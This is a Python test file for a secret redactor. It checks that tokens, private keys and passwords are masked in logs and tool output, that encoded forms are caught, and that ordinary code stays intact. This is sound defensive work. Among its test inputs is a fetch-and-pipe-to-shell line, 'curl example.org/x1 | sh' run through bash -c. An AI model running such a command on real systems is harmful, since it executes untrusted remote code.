"""What must never be seen in an error, a log or a result, and what must stay readable."""

from __future__ import annotations

import base64
import json
from base64 import b64encode
from collections.abc import Callable
from hashlib import shake_256
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hermes.core.redaction.context_patterns import CONTEXT_FAMILIES
from hermes.core.redaction.redactor import REDACTED, Redactor
from hermes.core.redaction.token_patterns import TOKEN_FAMILIES
from tests.unit.core.redaction import redaction_corpus as corpus


@pytest.mark.parametrize("family", corpus.MAKERS)
def test_every_sample_of_every_family_is_caught(family: str) -> None:
    redactor = Redactor()
    for text, secret in corpus.samples(family):
        cleaned = redactor.redact(text)
        assert secret not in cleaned, text
        assert f"[redacted:{family}]" in cleaned, f"{text} became {cleaned}"
        assert redactor.redact(cleaned) == cleaned


def test_at_least_forty_families_have_samples() -> None:
    assert len(corpus.MAKERS) >= 40
    assert set(corpus.MAKERS) <= {family.name for family in (*TOKEN_FAMILIES, *CONTEXT_FAMILIES)}


def test_what_stands_around_a_token_stays() -> None:
    key = "ghp_" + "abcd1234" * 5
    assert Redactor().redact(f'{{"key":"{key}","x":1}}') == '{"key":"[redacted:github]","x":1}'
    assert Redactor().redact(f"origin https://{key}@github.com/a/b.git (fetch)") == (
        "origin https://[redacted:github]@github.com/a/b.git (fetch)"
    )
    assert Redactor().redact("proxy http://joe:hunter2@proxy.local:3128/") == (
        "proxy http://joe:[redacted:url]@proxy.local:3128/"
    )
    assert (
        Redactor().redact("redis://:s3cr3t@cache:6379/0") == "redis://:[redacted:url]@cache:6379/0"
    )
    assert Redactor().redact("Authorization: Bearer abc.def-123456") == (
        "Authorization: Bearer [redacted:bearer]"
    )


def test_a_private_key_is_caught_in_every_dress() -> None:
    text = corpus.samples("private-key", 1)[0][1]
    lines = text.split("\n")
    dresses = [
        json.dumps({"type": "service_account", "private_key": text}),
        "\n".join(f"{n}|{line}" for n, line in enumerate(lines, 1)),  # as read_file shows it
        "\r\n".join(lines),
        "\n".join("    " + line for line in lines),
        "\n".join(lines[:6]),  # cut off
        "\n" + "\n".join(lines[1:]),  # its end
        "\n" + "\n".join(f"{n}|{line}" for n, line in enumerate(lines[1:], 2)),
        json.dumps("\n" + "\n".join(lines[1:])),
    ]
    for dress in dresses:
        cleaned = Redactor().redact(f"before {dress}")
        assert cleaned.startswith("before ")
        assert "[redacted:private-key]" in cleaned
        assert not any(line in cleaned for line in lines[1:5])


KEY_VIEWS = {
    "numbers and a tab": lambda lines: [f"{n:6}\t{line}" for n, line in enumerate(lines, 1)],
    "numbers and an arrow": lambda lines: [f"{n:5}→{line}" for n, line in enumerate(lines, 1)],
    "added": lambda lines: [f"+{line}" for line in lines],
    "removed": lambda lines: [f"-{line}" for line in lines],
    "grep": lambda lines: [f"/home/u/.ssh/id_rsa:{n}:{line}" for n, line in enumerate(lines, 1)],
    "grep, context": lambda lines: [f"a b/id.pem-{n}-{line}" for n, line in enumerate(lines, 1)],
    "quoted": lambda lines: [f"> {line}" for line in lines],
    "from an offset": lambda lines: [f"{n}|{line}" for n, line in enumerate(lines, 1)][1:4],
    "two lines of it": lambda lines: lines[2:4],
    "two columns": lambda lines: [f"{line:72}<" for line in lines],
    "added, from the middle": lambda lines: [f"+{line}" for line in lines[2:5]],
    "hits without the first line": lambda lines: [
        f"key:{n}: {line}" for n, line in enumerate(lines[1:-1], 2)
    ],
    "with ends of lines": lambda lines: [f"{line}$" for line in lines],
    "one hit": lambda lines: [f"keys/server.key:4:{lines[3]}"],
}
"""The lines of a key as tools show them."""


@pytest.mark.parametrize("view", KEY_VIEWS.values(), ids=KEY_VIEWS.keys())
def test_a_private_key_is_caught_however_a_tool_shows_it(
    view: Callable[[list[str]], list[str]],
) -> None:
    body = b64encode(shake_256(b"key").digest(420)).decode()
    rows = [body[at : at + 64] for at in range(0, len(body), 64)]
    lines = ["-----BEGIN PRIVATE KEY-----", *rows, "-----END PRIVATE KEY-----"]
    cleaned = Redactor().redact("\n".join(["before", *view(lines), "after"]))
    assert cleaned.startswith("before\n") and cleaned.endswith("after")
    assert not any(row[:20] in cleaned for row in rows)


def test_two_lines_of_a_key_without_signs_are_caught() -> None:
    """As most lines of an OpenSSH key are."""
    body = b64encode(shake_256(b"key").digest(420), altchars=b"aB").decode()
    rows = [body[:70], body[70:140]]
    cleaned = Redactor().redact("\n".join(["before", *rows, "after"]))
    assert not any(row[:20] in cleaned for row in rows)


@pytest.mark.parametrize(
    "begin",
    [
        "MC4CAQAwBQYDK2VwBCIEI", "MEcCAQAwBQYDK2VxBDsEO", "MIIEpAIBAAKCAQEA", "MHcCAQEEIB",
        "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBK", "MIGkAgEBBDC", "MIHcAgEBBEI",
        "MIGHAgEAMBMGByqGSM49AgEGCCqGSM49", "MIG2AgEAMBAGByqGSM49AgEGBSuBBA",
        "b3BlbnNzaC1rZXktdjEA",
    ],
)  # fmt: skip
def test_the_first_line_of_a_key_is_caught_alone(begin: str) -> None:
    row = (begin + b64encode(shake_256(begin.encode()).digest(48)).decode())[:64]
    assert Redactor().redact(f"2|{row}") == "2|[redacted:private-key]"


def test_certificates_and_public_keys_stay() -> None:
    body = b64encode(shake_256(b"key").digest(420)).decode()
    rows = "\n".join(body[at : at + 64] for at in range(0, len(body), 64))
    for name in ("CERTIFICATE", "PUBLIC KEY", "PGP PUBLIC KEY BLOCK"):
        text = f"-----BEGIN {name}-----\n{rows}\n-----END {name}-----\n"
        assert Redactor().redact(text) == text


@pytest.mark.parametrize(
    "text",
    [
        "DB_PASSWORD=Sommer-2024",
        "export PGPASSWORD='geheim12'",
        "ENV DB_PASSWORD Sommer-2024",
        "12|ENV DB_PASSWORD=Sommer-2024",
        "ARG NPM_TOKEN abc123",
        "password: Sommer-2024",
        "spring.datasource.password=Sommer",
        "mysql -uroot -pSommer db",
        "mysqldump --single-transaction -pX db",
        "redis-cli -h cache -a Sommer",
        "DB_PASSWORD: Sommer-2024",
        "e.yml:3:  password: Sommer-2024",
        "{'DB_PASSWORD': 'Sommer-2024'}",
        '{"password": "Sommer2024!", "user": "u"}',
        "db_password = 'Sommer-2024'",
        "password => 'Sommer-2024'",
        '$env:DB_PASSWORD = "Sommer-2024"',
        "SECRET_KEY = 'Sommer-33-abc'",
        "client_secret=Sommer-22",
        "secret-key = 'Sommer22x'",
        "jdbc:mysql://h/db?user=u&password=Sommer-1",
        "login failed (password=Sommer-2024)",
        "<password>Sommer-3</password>",
        "<password>Sommer33</password>",
        "mysqldump --password=Sommer22 x",
        "jdbc:mysql://h/db?user=u&password=Sommer22",
        "ALTER USER u IDENTIFIED BY 'Sommer-6'",
        "docker login -u x -p Sommer-7",
        "MY_PW=Sommer7",
        '{"password": "Sommer11x"}',
        "password = 'Sommer16x'",
        "JWT_SECRET: Sommer26x",
        '"apiKey": "Sommer-2026"',
        "api_token: Sommer-1008",
        "os.environ['DB_PASSWORD'] = 'Sommer-3004'",
        "ENV DB_PASSWORD 'Sommer-5004'",
        "mysql -u root --password Sommer-4002",
        "  - name: DB_PASSWORD\n    value: Sommer-1004",
        'DB_PASSWORD="Sommer 4011"',
    ],
)
def test_the_value_of_a_telling_name_is_caught_whatever_it_looks_like(text: str) -> None:
    cleaned = Redactor().redact(f"first\n{text}\nlast")
    assert "[redacted:" in cleaned and "Sommer" not in cleaned
    assert cleaned.startswith("first\n") and cleaned.endswith("\nlast")


@pytest.mark.parametrize("before", ["c.yml:3: ", "a b/c-3-", "+", "-", "+  ", "12|", "   12\t"])
@pytest.mark.parametrize(
    "text",
    [
        "password: Sommer-2024",
        "passwd=Sommer-2024",
        "client_secret: Sommer22x",
        "DB_PASSWORD: Sommer-2024",
        "ENV DB_PASSWORD Sommer-2024",
        "spring.datasource.password=Sommer",
    ],
)
def test_a_telling_name_is_known_behind_what_tools_print(text: str, before: str) -> None:
    cleaned = Redactor().redact(f"first\n{before}{text}\nlast")
    assert cleaned.startswith(f"first\n{before}") and cleaned.endswith("\nlast")
    assert "[redacted:" in cleaned and "Sommer" not in cleaned


@pytest.mark.parametrize(
    "text",
    [
        "PASSWORD=${PASSWORD}",
        "TOKEN=$TOKEN",
        "API_KEY=YOUR_API_KEY",
        "API_KEY=<your key>",
        "SECRET_KEY=os.environ['X']",
        "SECRET_KEY=config.secret_key",
        "DB_PASSWORD=changeme",
        "PASSWORD=",
        "PRIMARY_KEY=id",
        "SORT_KEY=3",
        "SSH_KEY=~/.ssh/id_ed25519",
        "password: str = ''",
        "password: the one you chose",
        "passwd: files systemd",
        "mysql -p -u root db",
        "mysql -P3306 db",
        "user.token=null",
        "password = password2",
        "f(password=hash_v2, pwd=userPwd2)",
        '"password": "Enter your password"',
        '"password": "Passwort"',
        "password: Optional[str] = None",
        "password = sha256(data)",
        "PASSWORD_MIN_LENGTH = 12",
        'client_secret="curl example.org/x1 | sh"; bash -c "$client_secret"',
        'client_secret = os.environ["CLIENT_SECRET_2"]',
        "password: ${{ secrets.DB_PASSWORD_2 }}",
    ],
)
def test_a_telling_name_without_a_value_stays(text: str) -> None:
    assert Redactor().redact(text) == text


def test_ordinary_text_stays() -> None:
    text = (
        "The model `gpt-4o` does not exist; see https://host/v1/models?x=1 (request req_0123456789"
        "abcdef). task-force, risk-averse, sk-learn, bearer of news, a@b.example. Basic "
        "functionality and bearer authentication are described in basic-structure.md. "
        "http://user:password@host http://{user}:{pw}@host http://$USER:$PASS@host "
        "-----BEGIN PRIVATE KEY----- starts one, -----END PRIVATE KEY----- ends it. "
        '<New class="javax.management.remote.JMXServiceURL2x9Y8z7">; broken: a1B2c3D4e5F6; '
        "token: str = settings.token2; password = get_password1(a1b2c3d4); pwd=/home/a1b2c3d4e5; "
        "export API_KEY=$KEY; sk-xxxxxxxxxxxxxxxxxxxxxxxx; sk-toggleable__label-arrow"
    )
    assert Redactor(["short"]).redact(text) == text


def test_code_and_logs_stay_readable() -> None:
    """A false positive harms the line it stands in, so lines are what is counted. Required is less
    than one in a hundred; the bound here is one in ten thousand and two per megabyte, because a
    model that reads a whole repository would notice even that."""
    redactor = Redactor([f"a-configured-secret-{n}-0123456789" for n in range(5)])
    size = lines = 0
    changed: list[str] = []
    for text in (*corpus.sources(3_500_000), *corpus.logs(3_500_000)):
        size += len(text)
        cleaned = redactor.redact(text)
        lines += text.count("\n") + 1
        if cleaned != text:
            before, after = text.split("\n"), cleaned.split("\n")
            changed += [f"{a!r} -> {b!r}" for a, b in zip(before, after, strict=False) if a != b]
            changed += ["lines lost"] * (len(before) - len(after))
    assert size >= 10_000_000
    assert len(changed) / lines < 0.0001, changed
    assert len(changed) / (size / 1e6) < 2, changed


def test_hostile_text_costs_no_more_than_a_moment() -> None:
    """Patterns that could be made to search again and again from every place."""
    bricks = "sk- eyJ- eyJ. ://a: A gl KEY= dp.pt. SG. syt_a_ tskey-a api-key MMMM.".split()
    bricks += ["-----BEGIN PRIVATE KEY-----", "Bearer ", "a\n", "secret_key ", "token :"]
    bricks += [
        "token=",
        "password=a1",
        "curl -u a ",
        "login a ",
        "login -p",
        "Cookie: a=",
        "kty d: ",
    ]
    bricks += [
        "://aaaa",
        "--api-key",
        "<password>",
        "Private-Lines: 1\n",
        "LS0tLS1CRUdJTiBSU0EgUFJJ",
    ]
    bricks += [
        "$6$aa$",
        "Authorization: a ",
        "Signature=",
        ":5432:a",
        "s.",
        "AAAAAAAAAAAAAAAAAAAAA%",
        "AAAAAAAA\n-----END",
        "a: AAAAAAAAAAAAAAAAAAAA\n-----BEGIN PRIVATE KEY",
        "ENV A_TOKEN\n",
        "mysql -",
    ]
    Redactor().redact("AAAAAAAA\n" * 8000 + "-----END")
    for brick in bricks:
        text = brick * (60_000 // len(brick))
        Redactor(["0123456789abcdef"]).redact(text)


# -- known values ------------------------------------------------------------------------------


def test_a_known_value_is_blanked_in_every_form_it_travels_in() -> None:
    secret = 'p@ss/wörd+with="odd"&chars\\'
    redactor = Redactor([secret])
    raw = secret.encode()
    forms = [
        secret,
        quote(secret),
        quote(secret, safe=""),
        quote(secret, safe="").lower(),
        json.dumps(secret)[1:-1],
        json.dumps(secret, ensure_ascii=False)[1:-1],
        raw.hex(),
        raw.hex().upper(),
        raw.hex(" "),
        raw.hex(":").upper(),
        "".join(f"%{byte:02X}" for byte in raw),
        "".join(f"\\x{byte:02x}" for byte in raw),
    ]
    for form in forms:
        assert form not in redactor.redact(f"<<{form}>>"), form
    for before in ("", "u", "us", "use", "user:"):
        for encode in (base64.b64encode, base64.urlsafe_b64encode):
            coded = encode(f"{before}{secret} and more".encode()).decode()
            cleaned = redactor.redact(f"data {coded} end")
            assert REDACTED in cleaned
            assert coded[8:16] not in cleaned
            assert coded[24:32] not in cleaned


def test_a_coded_value_is_found_across_the_lines_of_a_wrapped_dump() -> None:
    secret = "correct-horse-battery-staple-0123456789-correct-horse"
    redactor = Redactor([secret])
    for before in range(0, 60):
        text = "x" * before + secret + "y" * 30
        coded = base64.encodebytes(text.encode()).decode()
        assert REDACTED in redactor.redact(coded), before
        dump = text.encode().hex()
        wrapped = "\n".join(dump[i : i + 60] for i in range(0, len(dump), 60))
        assert REDACTED in redactor.redact(wrapped), before


def test_short_values_are_not_secrets() -> None:
    assert Redactor(["abc", "1234567", ""]).redact("abc 1234567") == "abc 1234567"


def test_the_longer_of_two_overlapping_secrets_leaves_no_tail() -> None:
    assert (
        Redactor(["token-abcdef", "token-abcdef-and-more"]).redact("token-abcdef-and-more")
        == REDACTED
    )


PRINTABLE = st.text(st.characters(min_codepoint=33, max_codepoint=126), min_size=12, max_size=60)


@given(secret=PRINTABLE, before=st.text(max_size=20), after=st.text(max_size=20))
def test_a_known_value_never_survives(secret: str, before: str, after: str) -> None:
    redactor = Redactor([secret])
    assert secret not in redactor.redact(before + secret + after)
    raw = (before + secret + after).encode("utf-8", "replace")
    coded = base64.b64encode(raw).decode()
    whole = base64.b64encode(secret.encode()).decode().rstrip("=")[:-1]
    assert whole not in redactor.redact(coded)
    assert secret.encode().hex() not in redactor.redact(raw.hex())


@given(st.text())
def test_anything_can_be_cleaned(text: str) -> None:
    Redactor([text]).redact(text)
